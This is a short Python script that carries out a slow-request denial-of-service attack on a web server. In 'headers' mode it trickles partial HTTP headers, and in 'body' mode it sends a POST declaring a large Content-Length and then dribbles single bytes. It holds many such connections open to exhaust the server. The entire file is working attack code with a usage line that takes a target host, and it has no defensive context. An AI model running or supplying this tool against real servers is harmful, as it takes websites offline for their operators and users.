#!/usr/bin/python3
"""Slow requests, as the well-known scripts of that kind send them.
usage: slow.py headers|body HOST CONNECTIONS GAP SECONDS"""
import random, socket, sys, time

mode, host, many, gap, length = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
end = time.time() + length
AGENT = "User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/53.0.2785.143 Safari/537.36\r\n"


def start():
    s = socket.socket()
    s.settimeout(4)
    s.connect((host, 80))
    if mode == "headers":
        s.send(("GET /?%d HTTP/1.1\r\n" % random.randrange(2000)).encode())
        s.send(AGENT.encode())
        s.send(b"Accept-language: en-US,en,q=0.5\r\n")
    else:
        s.send(("POST /comment HTTP/1.1\r\nHost: %s\r\n%sConnection: keep-alive\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nbody=" % (host, AGENT)).encode())
    return s


held = []
while time.time() < end:
    for s in list(held):
        try:
            s.send(("X-a: %d\r\n" % random.randrange(1, 5000)).encode() if mode == "headers" else b"a")
        except OSError:
            held.remove(s)
    while len(held) < many:
        try:
            held.append(start())
        except OSError:
            break
    time.sleep(gap)
